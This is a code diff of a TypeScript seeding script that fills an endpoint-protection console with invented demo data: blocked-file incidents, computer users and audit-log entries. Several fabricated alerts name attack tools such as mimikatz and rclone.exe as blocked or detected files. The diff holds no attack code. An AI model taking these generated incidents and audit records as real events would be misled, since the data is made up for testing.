-  { hash: 'winlogonHelper', computers: [], others: { company: 1001, computers: 1, each: 5, mode: 'notDiscovery' }, from: '2026-10-21T04:13:02Z', to: '2026-10-21T04:20:44Z' },
-  { hash: 'kintai', computers: [[40007, 172]], others: { company: 1003, computers: 2, each: 75 }, from: '2026-08-24T00:30:00Z', to: '2026-11-19T08:30:12Z' },
-  { hash: 'kintai', event: 'ExecutionBlocked', computers: [[40008, 14]], from: '2026-11-03T01:10:00Z', to: '2026-11-18T02:47:51Z' },
+  {
+    hash: 'invoiceNov',
+    computers: [],
+    others: { company: 1001, computers: 1, each: 3, mode: 'notDiscovery' },
+    from: '2026-11-13T16:05:12Z',
+    to: '2026-11-13T16:05:40Z',
+  },
+  {
+    hash: 'rtcore',
+    computers: [],
+    others: { company: 1001, computers: 1, each: 2, mode: 'notDiscovery' },
+    from: '2026-11-09T02:14:27Z',
+    to: '2026-11-09T02:14:31Z',
+    userKind: 2,
+  },
+  {
+    hash: 'updateOffice',
+    computers: [],
+    others: { company: 1001, computers: 2, each: 3, mode: 'notDiscovery' },
+    from: '2026-11-06T18:44:09Z',
+    to: '2026-11-07T08:02:16Z',
+  },
+  {
+    hash: 'mimikatz',
+    computers: [],
+    others: { company: 1001, computers: 1, each: 4, mode: 'notDiscovery' },
+    from: '2026-10-30T23:51:38Z',
+    to: '2026-10-30T23:52:10Z',
+  },
+  {
+    hash: 'svchosts',
+    computers: [],
+    others: { company: 1001, computers: 3, each: 6, mode: 'notDiscovery' },
+    from: '2026-10-21T04:12:55Z',
+    to: '2026-10-29T06:30:19Z',
+  },
+  {
+    hash: 'winlogonHelper',
+    computers: [],
+    others: { company: 1001, computers: 1, each: 5, mode: 'notDiscovery' },
+    from: '2026-10-21T04:13:02Z',
+    to: '2026-10-21T04:20:44Z',
+  },
+  {
+    hash: 'kintai',
+    computers: [[40007, 172]],
+    others: { company: 1003, computers: 2, each: 75 },
+    from: '2026-08-24T00:30:00Z',
+    to: '2026-11-19T08:30:12Z',
+  },
+  {
+    hash: 'kintai',
+    event: 'ExecutionBlocked',
+    computers: [[40008, 14]],
+    from: '2026-11-03T01:10:00Z',
+    to: '2026-11-18T02:47:51Z',
+  },
 ];
 
 function scriptedEvents(
@@ -1014,7 +2539,11 @@ function scriptedEvents(
   const rows: EventRow[] = [];
   const trees = exampleTrees();
   const userOf = (c: ComputerRow, kind: UserKind) =>
-    kind === 2 ? null : kind === 1 ? `${c.domain ?? 'CORP'}\\svc-backup` : `${c.domain ?? 'CORP'}\\${c.logged_on_user ?? 'user'}`;
+    kind === 2
+      ? null
+      : kind === 1
+        ? `${c.domain ?? 'CORP'}\\svc-backup`
+        : `${c.domain ?? 'CORP'}\\${c.logged_on_user ?? 'user'}`;
   const actionOf = (c: ComputerRow, event: EventType): Action =>
     NOT_BLOCKABLE.has(event) ? 'allowed' : c.protection_mode === 'Discovery' ? 'audited' : 'blocked';
   const min = ctx.now.getTime() - 90 * DAY;
@@ -1093,7 +2622,8 @@ function scriptedEvents(
     plan.forEach(([c, count], index) => {
       for (let k = 0; k < count; k++) {
         // The first computer of an incident holds its last event (the example's lastSeen).
-        const t = index === 0 && k === count - 1 ? to : from + Math.floor(rng.next() * Math.max(1, to - from));
+        const t =
+          index === 0 && k === count - 1 ? to : from + Math.floor(rng.next() * Math.max(1, to - from));
         rows.push([
           id++,
           new Date(t),
@@ -1116,7 +2646,12 @@ function scriptedEvents(
 }
 
 /** The bulk of the events: generated in SQL from the catalogue, ids 1..count in time order. */
-async function poolEvents(db: Database, ctx: SeedContext, catalogue: Catalogue, count: number): Promise<void> {
+async function poolEvents(
+  db: Database,
+  ctx: SeedContext,
+  catalogue: Catalogue,
+  count: number,
+): Promise<void> {
   if (count === 0) return;
 
   // The pool: every variant with a weight, most popular first; Japanese software apart.
@@ -1200,7 +2735,9 @@ async function poolEvents(db: Database, ctx: SeedContext, catalogue: Catalogue, 
      alter table _seed_computers add primary key (idx);
      analyze _seed_computers; analyze _seed_variants; analyze _seed_hours;`,
   );
-  const [{ n: nc } = { n: 0 }] = await db.query<{ n: number }>('select count(*)::int as n from _seed_computers');
+  const [{ n: nc } = { n: 0 }] = await db.query<{ n: number }>(
+    'select count(*)::int as n from _seed_computers',
+  );
   if (nc === 0) return;
   const na = global.length;
   const nj = japanese.length;
@@ -1239,7 +2776,7 @@ async function poolEvents(db: Database, ctx: SeedContext, catalogue: Catalogue, 
   await db.exec('drop table _seed_variants; drop table _seed_computers; drop table _seed_hours;');
 }
 
-/** The aggregates of the lists: totals per hash, events per hour. */
+/** The aggregates of the lists: totals per hash, the user names of events, events per hour. */
 async function aggregate(db: Database): Promise<void> {
   await db.exec(
     `update file_hashes h set computer_count = s.cc, event_count = s.ec, last_seen = s.ls, first_seen = least(h.first_seen, s.fs)
@@ -1250,6 +2787,9 @@ async function aggregate(db: Database): Promise<void> {
        where s.hash_id = h.id`,
   );
   await db.exec(
+    'insert into event_user_names (user_name) select distinct user_name from events where user_name is not null',
+  );
+  await db.exec(
     `insert into event_hour_counts (hour, event_type, action, hash_class, n)
        select date_bin('1 hour', reported_at, timestamptz '2000-01-01T00:00:00Z'), event_type, action, hash_class, count(*)::int
        from events group by 1, 2, 3, 4`,
@@ -1258,7 +2798,11 @@ async function aggregate(db: Database): Promise<void> {
 
 // ---------------------------------------------------------------- the Computer area
 
-async function seedComputerArea(ctx: SeedContext, computers: ComputerRow[], at: (iso: string) => Date): Promise<void> {
+async function seedComputerArea(
+  ctx: SeedContext,
+  computers: ComputerRow[],
+  at: (iso: string) => Date,
+): Promise<void> {
   const { db } = ctx;
   const rng = ctx.random('computer-area');
   const now = ctx.now.getTime();
@@ -1286,12 +2830,23 @@ async function seedComputerArea(ctx: SeedContext, computers: ComputerRow[], at: 
     const domain = c.domain ?? 'CORP';
     const seen = Math.min(now, c.last_seen?.getTime() ?? now - 30 * DAY);
     if (now - seen > 88 * DAY) continue;
-    userRows.push([c.id, `${domain}\\${c.logged_on_user ?? 'user'}`, new Date(seen - rng.int(0, 120) * 60_000), rng.int(12, 70)]);
+    userRows.push([
+      c.id,
+      `${domain}\\${c.logged_on_user ?? 'user'}`,
+      new Date(seen - rng.int(0, 120) * 60_000),
+      rng.int(12, 70),
+    ]);
     if (rng.chance(0.3)) {
       const d = new Date(seen - rng.int(0, 2) * DAY);
-      userRows.push([c.id, `${domain}\\svc-backup`, new Date(Date.UTC(d.getUTCFullYear(), d.getUTCMonth(), d.getUTCDate(), 2, 0, rng.int(0, 59))), rng.int(80, 90)]);
+      userRows.push([
+        c.id,
+        `${domain}\\svc-backup`,
+        new Date(Date.UTC(d.getUTCFullYear(), d.getUTCMonth(), d.getUTCDate(), 2, 0, rng.int(0, 59))),
+        rng.int(80, 90),
+      ]);
     }
-    if (rng.chance(0.12)) userRows.push([c.id, `${domain}\\it-admin`, new Date(seen - rng.int(1, 40) * DAY), rng.int(1, 6)]);
+    if (rng.chance(0.12))
+      userRows.push([c.id, `${domain}\\it-admin`, new Date(seen - rng.int(1, 40) * DAY), rng.int(1, 6)]);
   }
   await insertRows(
     db,
@@ -1325,13 +2880,20 @@ async function seedComputerArea(ctx: SeedContext, computers: ComputerRow[], at: 
   // Agents the management server still lists in agms groups (uninstalled).
   const retired: unknown[][] = [[939877, 3001, 'FAB-FIN-WS009', '8.3.9.1102', at('2026-10-02T17:45:10Z')]];
   const agmsGroups = new Map<number, ComputerRow>();
-  for (const c of computers) if (c.agms && c.id >= 40100 && !agmsGroups.has(c.group_id)) agmsGroups.set(c.group_id, c);
+  for (const c of computers)
+    if (c.agms && c.id >= 40100 && !agmsGroups.has(c.group_id)) agmsGroups.set(c.group_id, c);
   let mainId = 800_001;
   for (const c of agmsGroups.values()) {
     if (!rng.chance(0.08)) continue;
     const prefix = c.name.replace(/\d+$/, '');
     for (let k = 0, n = rng.int(1, 2); k < n; k++) {
-      retired.push([mainId++, c.group_id, `${prefix}${rng.int(900, 999)}`, '8.3.9.1102', new Date(now - rng.int(20, 200) * DAY)]);
+      retired.push([
+        mainId++,
+        c.group_id,
+        `${prefix}${rng.int(900, 999)}`,
+        '8.3.9.1102',
+        new Date(now - rng.int(20, 200) * DAY),
+      ]);
     }
   }
   await insertRows(
@@ -1416,27 +2978,223 @@ type AuditAction =
   | 'DeleteComputer';
 
 /** [id, time, userId, action, entityType, entityName, details, ip, partnerId, companyId] */
-const NAMED_AUDIT: Array<[number, string, number, AuditAction, string, string | null, string | null, string, number | null, number | null]> = [
-  [88231, '2026-11-19T09:02:11Z', 9001, 'Login', 'Session', null, 'Signed in with password.', '198.51.100.10', null, null],
-  [88228, '2026-11-19T08:47:30Z', 9008, 'UpdateAgentSettings', 'AgentSettings', '経理部', 'デバッグログ保持時間を 0 から 24 に変更しました。', '2001:db8:81::24', 102, 1003],
-  [88225, '2026-11-19T08:31:05Z', 9003, 'GenerateOtp', 'Computer', 'FAB-FIN-WS022', 'One-time password generated (valid 1 hour).', '203.0.113.24', 101, 1001],
-  [88222, '2026-11-19T07:15:48Z', 9008, 'Login', 'Session', null, 'Signed in with SSO (Azure).', '2001:db8:81::24', 102, 1003],
-  [88219, '2026-11-18T17:40:12Z', 9002, 'UpdateCompany', 'Company', 'Tailspin Toys', 'Contact phone changed.', '203.0.113.77', 101, 1002],
-  [88216, '2026-11-18T16:40:27Z', 9006, 'UpdateAlertStatus', 'Alert', 'Malicious file blocked: update_helper.dll', 'Unresolved -> InReview', '203.0.113.31', 101, 1001],
-  [88213, '2026-11-18T10:05:56Z', 9004, 'UpdateServer', 'Server', 'PDP-CHI-01', 'Priority changed from 2 to 1.', '203.0.113.24', 101, 1001],
-  [88210, '2026-11-17T13:22:09Z', 9009, 'CreateUser', 'User', '鈴木 一郎', 'Role CompanyAdmin, company 大阪ロジスティクス株式会社.', '2001:db8:81::9', 102, 1004],
-  [88207, '2026-11-17T09:12:44Z', 9005, 'LoginFailed', 'Session', null, 'Wrong password.', '198.51.100.62', 101, 1001],
-  [88204, '2026-11-16T11:30:00Z', 9003, 'ChangeReviewStatus', 'Review', 'Finance Workstations – November blocks', 'Drafted -> Applied', '203.0.113.24', 101, 1001],
-  [88201, '2026-11-14T13:37:08Z', 9003, 'ResolveAlert', 'Alert', 'powershell.exe started by EXCEL.EXE', 'InReview -> Resolved', '203.0.113.24', 101, 1001],
-  [88198, '2026-11-13T15:48:19Z', 9010, 'UpdateGlobalSettings', 'GlobalSettings', 'SMTP settings', 'E-Mail settings has been updated!', '198.51.100.140', 103, 1005],
+const NAMED_AUDIT: Array<
+  [
+    number,
+    string,
+    number,
+    AuditAction,
+    string,
+    string | null,
+    string | null,
+    string,
+    number | null,
+    number | null,
+  ]
+> = [
+  [
+    88231,
+    '2026-11-19T09:02:11Z',
+    9001,
+    'Login',
+    'Session',
+    null,
+    'Signed in with password.',
+    '198.51.100.10',
+    null,
+    null,
+  ],
+  [
+    88228,
+    '2026-11-19T08:47:30Z',
+    9008,
+    'UpdateAgentSettings',
+    'AgentSettings',
+    '経理部',
+    'デバッグログ保持時間を 0 から 24 に変更しました。',
+    '2001:db8:81::24',
+    102,
+    1003,
+  ],
+  [
+    88225,
+    '2026-11-19T08:31:05Z',
+    9003,
+    'GenerateOtp',
+    'Computer',
+    'FAB-FIN-WS022',
+    'One-time password generated (valid 1 hour).',
+    '203.0.113.24',
+    101,
+    1001,
+  ],
+  [
+    88222,
+    '2026-11-19T07:15:48Z',
+    9008,
+    'Login',
+    'Session',
+    null,
+    'Signed in with SSO (Azure).',
+    '2001:db8:81::24',
+    102,
+    1003,
+  ],
+  [
+    88219,
+    '2026-11-18T17:40:12Z',
+    9002,
+    'UpdateCompany',
+    'Company',
+    'Tailspin Toys',
+    'Contact phone changed.',
+    '203.0.113.77',
+    101,
+    1002,
+  ],
+  [
+    88216,
+    '2026-11-18T16:40:27Z',
+    9006,
+    'UpdateAlertStatus',
+    'Alert',
+    'Malicious file blocked: update_helper.dll',
+    'Unresolved -> InReview',
+    '203.0.113.31',
+    101,
+    1001,
+  ],
+  [
+    88213,
+    '2026-11-18T10:05:56Z',
+    9004,
+    'UpdateServer',
+    'Server',
+    'PDP-CHI-01',
+    'Priority changed from 2 to 1.',
+    '203.0.113.24',
+    101,
+    1001,
+  ],
+  [
+    88210,
+    '2026-11-17T13:22:09Z',
+    9009,
+    'CreateUser',
+    'User',
+    '鈴木 一郎',
+    'Role CompanyAdmin, company 大阪ロジスティクス株式会社.',
+    '2001:db8:81::9',
+    102,
+    1004,
+  ],
+  [
+    88207,
+    '2026-11-17T09:12:44Z',
+    9005,
+    'LoginFailed',
+    'Session',
+    null,
+    'Wrong password.',
+    '198.51.100.62',
+    101,
+    1001,
+  ],
+  [
+    88204,
+    '2026-11-16T11:30:00Z',
+    9003,
+    'ChangeReviewStatus',
+    'Review',
+    'Finance Workstations – November blocks',
+    'Drafted -> Applied',
+    '203.0.113.24',
+    101,
+    1001,
+  ],
+  [
+    88201,
+    '2026-11-14T13:37:08Z',
+    9003,
+    'ResolveAlert',
+    'Alert',
+    'powershell.exe started by EXCEL.EXE',
+    'InReview -> Resolved',
+    '203.0.113.24',
+    101,
+    1001,
+  ],
+  [
+    88198,
+    '2026-11-13T15:48:19Z',
+    9010,
+    'UpdateGlobalSettings',
+    'GlobalSettings',
+    'SMTP settings',
+    'E-Mail settings has been updated!',
+    '198.51.100.140',
+    103,
+    1005,
+  ],
 ];
 
 const ACTIONS_BY_ROLE: Record<string, Array<[AuditAction, number]>> = {
-  AGMSAdmin: [['CreateCompany', 3], ['UpdateCompany', 5], ['DeleteCompany', 1], ['CreateUser', 3], ['UpdateUser', 4], ['UpdateGlobalSettings', 3], ['UpdateSsoProvider', 2], ['UpdateAlertCondition', 3], ['CreateServer', 2], ['UpdateServer', 3]],
-  PartnerAdmin: [['CreateCompany', 2], ['UpdateCompany', 5], ['CreateUser', 3], ['UpdateUser', 4], ['UpdateSsoProvider', 1], ['CreateServer', 2], ['UpdateServer', 3], ['DeleteServer', 1]],
-  CompanyAdmin: [['CreateUser', 2], ['UpdateUser', 3], ['UpdateAgentSettings', 4], ['UpdateIgnoreEvents', 3], ['UpdateSeverityEvents', 2], ['UpdateGlobalSettings', 1], ['ResolveAlert', 6], ['UpdateAlertStatus', 6], ['UpdateAlertCondition', 2], ['CreateReview', 2], ['ChangeReviewStatus', 3], ['GenerateOtp', 3], ['DeleteComputer', 1], ['UpdateServer', 1]],
-  SiteAdmin: [['UpdateAgentSettings', 3], ['ResolveAlert', 5], ['UpdateAlertStatus', 5], ['UpdateAlertCondition', 1], ['GenerateOtp', 4], ['DeleteComputer', 1], ['UpdateServer', 1]],
-  GroupAdmin: [['UpdateIgnoreEvents', 3], ['UpdateSeverityEvents', 2], ['CreateReview', 3], ['ChangeReviewStatus', 4], ['GenerateOtp', 3], ['UpdateAlertStatus', 3], ['UpdateAgentSettings', 2]],
+  AGMSAdmin: [
+    ['CreateCompany', 3],
+    ['UpdateCompany', 5],
+    ['DeleteCompany', 1],
+    ['CreateUser', 3],
+    ['UpdateUser', 4],
+    ['UpdateGlobalSettings', 3],
+    ['UpdateSsoProvider', 2],
+    ['UpdateAlertCondition', 3],
+    ['CreateServer', 2],
+    ['UpdateServer', 3],
+  ],
+  PartnerAdmin: [
+    ['CreateCompany', 2],
+    ['UpdateCompany', 5],
+    ['CreateUser', 3],
+    ['UpdateUser', 4],
+    ['UpdateSsoProvider', 1],
+    ['CreateServer', 2],
+    ['UpdateServer', 3],
+    ['DeleteServer', 1],
+  ],
+  CompanyAdmin: [
+    ['CreateUser', 2],
+    ['UpdateUser', 3],
+    ['UpdateAgentSettings', 4],
+    ['UpdateIgnoreEvents', 3],
+    ['UpdateSeverityEvents', 2],
+    ['UpdateGlobalSettings', 1],
+    ['ResolveAlert', 6],
+    ['UpdateAlertStatus', 6],
+    ['UpdateAlertCondition', 2],
+    ['CreateReview', 2],
+    ['ChangeReviewStatus', 3],
+    ['GenerateOtp', 3],
+    ['DeleteComputer', 1],
+    ['UpdateServer', 1],
+  ],
+  SiteAdmin: [
+    ['UpdateAgentSettings', 3],
+    ['ResolveAlert', 5],
+    ['UpdateAlertStatus', 5],
+    ['UpdateAlertCondition', 1],
+    ['GenerateOtp', 4],
+    ['DeleteComputer', 1],
+    ['UpdateServer', 1],
+  ],
+  GroupAdmin: [
+    ['UpdateIgnoreEvents', 3],
+    ['UpdateSeverityEvents', 2],
+    ['CreateReview', 3],
+    ['ChangeReviewStatus', 4],
+    ['GenerateOtp', 3],
+    ['UpdateAlertStatus', 3],
+    ['UpdateAgentSettings', 2],
+  ],
   SiteAudit: [],
   GroupAudit: [],
 };
@@ -1468,7 +3226,11 @@ const ENTITY_OF: Record<AuditAction, string> = {
   DeleteComputer: 'Computer',
 };
 
-async function seedAuditLogs(ctx: SeedContext, computers: ComputerRow[], at: (iso: string) => Date): Promise<void> {
+async function seedAuditLogs(
+  ctx: SeedContext,
+  computers: ComputerRow[],
+  at: (iso: string) => Date,
+): Promise<void> {
   const { db } = ctx;
   const rng = ctx.random('inspection-audit');
   const now = ctx.now.getTime();
@@ -1490,7 +3252,7 @@ async function seedAuditLogs(ctx: SeedContext, computers: ComputerRow[], at: (is
   const japaneseName = (u: { name: string; ja: boolean }) => {
     // Japanese names read family name first.
     const [first, last] = u.name.split(' ');
-    return u.ja && /[^\x00-\x7f]/.test(u.name) ? `${last} ${first}` : u.name;
+    return u.ja && /[\u3040-\u30ff\u4e00-\u9fff]/.test(u.name) ? `${last} ${first}` : u.name;
   };
   const companies = await db.query<{ id: number; name: string; partner_id: number }>(
     'select id, name, partner_id from companies order by id',
@@ -1505,16 +3267,30 @@ async function seedAuditLogs(ctx: SeedContext, computers: ComputerRow[], at: (is
   };
   const computersOf = byCompany(computers);
   const groupsOf = byCompany(groups);
-  const usersOf = byCompany(users.filter((u) => u.company_id !== null) as Array<(typeof users)[number] & { company_id: number }>);
+  const usersOf = byCompany(
+    users.filter((u) => u.company_id !== null) as Array<(typeof users)[number] & { company_id: number }>,
+  );
   const companiesOf = new Map<number, typeof companies>();
   for (const c of companies) companiesOf.set(c.partner_id, [...(companiesOf.get(c.partner_id) ?? []), c]);
 
   const ipOf = (u: { id: number; ja: boolean }) =>
-    u.ja ? `2001:db8:81::${(u.id % 250).toString(16)}` : `${u.id % 3 === 0 ? '198.51.100' : '203.0.113'}.${10 + (u.id % 240)}`;
-  const weightOf = (u: (typeof users)[number]) => (u.id >= 9001 && u.id <= 9010 ? 12 : u.role === 'AGMSAdmin' ? 4 : 1);
+    u.ja
+      ? `2001:db8:81::${(u.id % 250).toString(16)}`
+      : `${u.id % 3 === 0 ? '198.51.100' : '203.0.113'}.${10 + (u.id % 240)}`;
+  const weightOf = (u: (typeof users)[number]) =>
+    u.id >= 9001 && u.id <= 9010 ? 12 : u.role === 'AGMSAdmin' ? 4 : 1;
   const pickUser = () => rng.weighted(users.map((u) => [u, weightOf(u)] as const));
 
-  const SERVERS = ['PDP-CHI-01', 'PDP-CHI-02', 'LRP-CHI-01', 'PDP-IAD-01', 'LRP-IAD-01', 'PDP-TYO-01', 'LRP-TYO-01', 'PDP-AMS-01'];
+  const SERVERS = [
+    'PDP-CHI-01',
+    'PDP-CHI-02',
+    'LRP-CHI-01',
+    'PDP-IAD-01',
+    'LRP-IAD-01',
+    'PDP-TYO-01',
+    'LRP-TYO-01',
+    'PDP-AMS-01',
+  ];
   const ALERTS = [
     'Malicious file blocked: ',
     'Repeated blocks of ',
@@ -1522,9 +3298,28 @@ async function seedAuditLogs(ctx: SeedContext, computers: ComputerRow[], at: (is
     'Agent offline for 24 hours: ',
     'Policy older than 7 days: ',
   ];
-  const FILES = ['invoice_viewer.exe', 'rclone.exe', 'AnyDesk.exe', 'update_helper.dll', 'powershell.exe', 'Zoom.exe', 'mimikatz.exe'];
-  const STATUS_CHANGES = ['Unresolved -> InReview', 'InReview -> Resolved', 'Unresolved -> Resolved', 'InReview -> Unresolved'];
-  const REVIEW_CHANGES = ['DraftReview -> Drafted', 'Drafted -> Applied', 'Applied -> Published', 'Published -> Completed', 'Published -> KeepEnforcing'];
+  const FILES = [
+    'invoice_viewer.exe',
+    'rclone.exe',
+    'AnyDesk.exe',
+    'update_helper.dll',
+    'powershell.exe',
+    'Zoom.exe',
+    'mimikatz.exe',
+  ];
+  const STATUS_CHANGES = [
+    'Unresolved -> InReview',
+    'InReview -> Resolved',
+    'Unresolved -> Resolved',
+    'InReview -> Unresolved',
+  ];
+  const REVIEW_CHANGES = [
+    'DraftReview -> Drafted',
+    'Drafted -> Applied',
+    'Applied -> Published',
+    'Published -> Completed',
+    'Published -> KeepEnforcing',
+  ];
   const SETTINGS = ['SMTP settings', 'Syslog settings', 'Hash lookup settings'];
   const SSO = ['Azure AD', 'Okta', 'Google Workspace'];
 
@@ -1546,7 +3341,17 @@ async function seedAuditLogs(ctx: SeedContext, computers: ComputerRow[], at: (is
     let partnerId = u.partner_id;
     let companyId = u.company_id;
     // Partner and global admins act on a company of theirs.
-    if (u.company_id === null && !['Login', 'Logout', 'LoginFailed', 'UpdateGlobalSettings', 'UpdateSsoProvider', 'UpdateAlertCondition'].includes(action)) {
+    if (
+      u.company_id === null &&
+      ![
+        'Login',
+        'Logout',
+        'LoginFailed',
+        'UpdateGlobalSettings',
+        'UpdateSsoProvider',
+        'UpdateAlertCondition',
+      ].includes(action)
+    ) {
       const pool = u.partner_id !== null ? (companiesOf.get(u.partner_id) ?? []) : companies;
       const c = pool.length > 0 ? rng.pick(pool) : null;
       if (c) {
@@ -1555,14 +3360,25 @@ async function seedAuditLogs(ctx: SeedContext, computers: ComputerRow[], at: (is
       }
     }
     const company = companies.find((c) => c.id === companyId) ?? null;
-    const computer = companyId !== null ? rng.pick(computersOf.get(companyId) ?? [{ name: 'WS-0001' } as ComputerRow]) : null;
-    const group = companyId !== null ? rng.pick(groupsOf.get(companyId) ?? [{ name: 'Workstations' } as (typeof groups)[number]]) : null;
-    const colleague = companyId !== null ? rng.pick(usersOf.get(companyId) ?? [u as (typeof users)[number] & { company_id: number }]) : u;
+    const computer =
+      companyId !== null
+        ? rng.pick(computersOf.get(companyId) ?? [{ name: 'WS-0001' } as ComputerRow])
+        : null;
+    const group =
+      companyId !== null
+        ? rng.pick(groupsOf.get(companyId) ?? [{ name: 'Workstations' } as (typeof groups)[number]])
+        : null;
+    const colleague =
+      companyId !== null
+        ? rng.pick(usersOf.get(companyId) ?? [u as (typeof users)[number] & { company_id: number }])
+        : u;
     let entity: string | null = null;
     let details: string | null = null;
     switch (action) {
       case 'Login':
-        details = rng.chance(0.3) ? `Signed in with SSO (${rng.pick(['Azure', 'Okta', 'Google'])}).` : 'Signed in with password.';
+        details = rng.chance(0.3)
+          ? `Signed in with SSO (${rng.pick(['Azure', 'Okta', 'Google'])}).`
+          : 'Signed in with password.';
         break;
       case 'Logout':
         details = rng.chance(0.35) ? 'Signed out (session expired).' : 'Signed out.';
@@ -1574,31 +3390,67 @@ async function seedAuditLogs(ctx: SeedContext, computers: ComputerRow[], at: (is
       case 'UpdateCompany':
       case 'DeleteCompany':
         entity = company?.name ?? 'Company';
-        details = action === 'CreateCompany' ? 'Company created.' : action === 'DeleteCompany' ? 'Company deleted.' : rng.pick(['Contact phone changed.', 'Address changed.', 'Contact e-mail changed.', 'License status changed.']);
+        details =
+          action === 'CreateCompany'
+            ? 'Company created.'
+            : action === 'DeleteCompany'
+              ? 'Company deleted.'
+              : rng.pick([
+                  'Contact phone changed.',
+                  'Address changed.',
+                  'Contact e-mail changed.',
+                  'License status changed.',
+                ]);
         break;
       case 'CreateUser':
       case 'UpdateUser':
       case 'DeleteUser':
         entity = japaneseName(colleague);
-        details = action === 'CreateUser' ? `Role ${colleague.role}, company ${company?.name ?? ''}.` : rng.pick(['Role changed.', 'Assigned sites changed.', 'Assigned groups changed.', 'Name changed.']);
+        details =
+          action === 'CreateUser'
+            ? `Role ${colleague.role}, company ${company?.name ?? ''}.`
+            : rng.pick([
+                'Role changed.',
+                'Assigned sites changed.',
+                'Assigned groups changed.',
+                'Name changed.',
+              ]);
         break;
       case 'CreateServer':
       case 'UpdateServer':
       case 'DeleteServer':
         entity = rng.pick(SERVERS);
-        details = action === 'UpdateServer' ? rng.pick(['Priority changed from 2 to 1.', 'Port changed from 443 to 8443.', 'Zone changed.']) : action === 'CreateServer' ? 'Server added.' : 'Server removed.';
+        details =
+          action === 'UpdateServer'
+            ? rng.pick(['Priority changed from 2 to 1.', 'Port changed from 443 to 8443.', 'Zone changed.'])
+            : action === 'CreateServer'
+              ? 'Server added.'
+              : 'Server removed.';
         break;
       case 'ResolveAlert':
       case 'UpdateAlertStatus':
-      {
-        const alert = rng.pick(ALERTS);
-        entity = `${alert}${alert === ALERTS[3] || alert === ALERTS[4] ? (computer?.name ?? '') : rng.pick(FILES)}`;
-      }
-        details = action === 'ResolveAlert' ? rng.pick(['InReview -> Resolved', 'Unresolved -> Resolved']) : rng.pick(STATUS_CHANGES);
+        {
+          const alert = rng.pick(ALERTS);
+          entity = `${alert}${alert === ALERTS[3] || alert === ALERTS[4] ? (computer?.name ?? '') : rng.pick(FILES)}`;
+        }
+        details =
+          action === 'ResolveAlert'
+            ? rng.pick(['InReview -> Resolved', 'Unresolved -> Resolved'])
+            : rng.pick(STATUS_CHANGES);
         break;
       case 'UpdateAlertCondition':
-        entity = rng.pick(['Malicious file blocked on any endpoint', 'Agent offline for 24 hours', 'Same file blocked 50 times in a day', 'Management server disk above 85 %']);
-        details = rng.pick(['Threshold changed.', 'Notification e-mails changed.', 'Condition enabled.', 'Condition disabled.']);
+        entity = rng.pick([
+          'Malicious file blocked on any endpoint',
+          'Agent offline for 24 hours',
+          'Same file blocked 50 times in a day',
+          'Management server disk above 85 %',
+        ]);
+        details = rng.pick([
+          'Threshold changed.',
+          'Notification e-mails changed.',
+          'Condition enabled.',
+          'Condition disabled.',
+        ]);
         break;
       case 'CreateReview':
       case 'ChangeReviewStatus':
@@ -1608,8 +3460,17 @@ async function seedAuditLogs(ctx: SeedContext, computers: ComputerRow[], at: (is
       case 'UpdateAgentSettings':
         entity = group?.name ?? null;
         details = u.ja
-          ? rng.pick(['デバッグログ保持時間を 0 から 24 に変更しました。', 'ポリシーのポーリング間隔を 300 秒に変更しました。', 'プロセスツリーの報告を有効にしました。'])
-          : rng.pick(['Policy polling interval changed from 600 to 300 seconds.', 'Process tree reporting enabled.', 'Debug log hours changed from 0 to 24.', 'Log severity changed to Warning.']);
+          ? rng.pick([
+              'デバッグログ保持時間を 0 から 24 に変更しました。',
+              'ポリシーのポーリング間隔を 300 秒に変更しました。',
+              'プロセスツリーの報告を有効にしました。',
+            ])
+          : rng.pick([
+              'Policy polling interval changed from 600 to 300 seconds.',
+              'Process tree reporting enabled.',
+              'Debug log hours changed from 0 to 24.',
+              'Log severity changed to Warning.',
+            ]);
         break;
       case 'UpdateIgnoreEvents':
         entity = group?.name ?? null;
@@ -1621,7 +3482,12 @@ async function seedAuditLogs(ctx: SeedContext, computers: ComputerRow[], at: (is
         break;
       case 'UpdateGlobalSettings': {
         entity = rng.pick(SETTINGS);
-        details = entity === 'SMTP settings' ? 'E-Mail settings has been updated!' : entity === 'Hash lookup settings' ? 'Hash Lookup Successfully Saved' : 'Settings has been updated!';
+        details =
+          entity === 'SMTP settings'
+            ? 'E-Mail settings has been updated!'
+            : entity === 'Hash lookup settings'
+              ? 'Hash Lookup Successfully Saved'
+              : 'Settings has been updated!';
         break;
       }
       case 'UpdateSsoProvider':
@@ -1637,15 +3503,51 @@ async function seedAuditLogs(ctx: SeedContext, computers: ComputerRow[], at: (is
         details = 'Computer removed from the console.';
         break;
     }
-    rows.push([t, u.id, u.email, japaneseName(u), partnerId, companyId, action, ENTITY_OF[action], entity, details, ipOf(u)]);
+    rows.push([
+      t,
+      u.id,
+      u.email,
+      japaneseName(u),
+      partnerId,
+      companyId,
+      action,
+      ENTITY_OF[action],
+      entity,
+      details,
+      ipOf(u),
+    ]);
   }
   rows.sort((a, b) => (a[0] as number) - (b[0] as number));
   const auditRows: unknown[][] = rows.map((r, i) => [i + 1, new Date(r[0] as number), ...r.slice(1)]);
   const userById = new Map(users.map((u) => [u.id, u]));
-  for (const [id, when, userId, action, entityType, entity, details, ip, partnerId, companyId] of NAMED_AUDIT) {
+  for (const [
+    id,
+    when,
+    userId,
+    action,
+    entityType,
+    entity,
+    details,
+    ip,
+    partnerId,
+    companyId,
+  ] of NAMED_AUDIT) {
     const u = userById.get(userId);
     if (!u) continue;
-    auditRows.push([id, at(when), userId, u.email, japaneseName(u), partnerId, companyId, action, entityType, entity, details, ip]);
+    auditRows.push([
+      id,
+      at(when),
+      userId,
+      u.email,
+      japaneseName(u),
+      partnerId,
+      companyId,
+      action,
+      entityType,
+      entity,
+      details,
+      ip,
+    ]);
   }
   await insertRows(
     db,
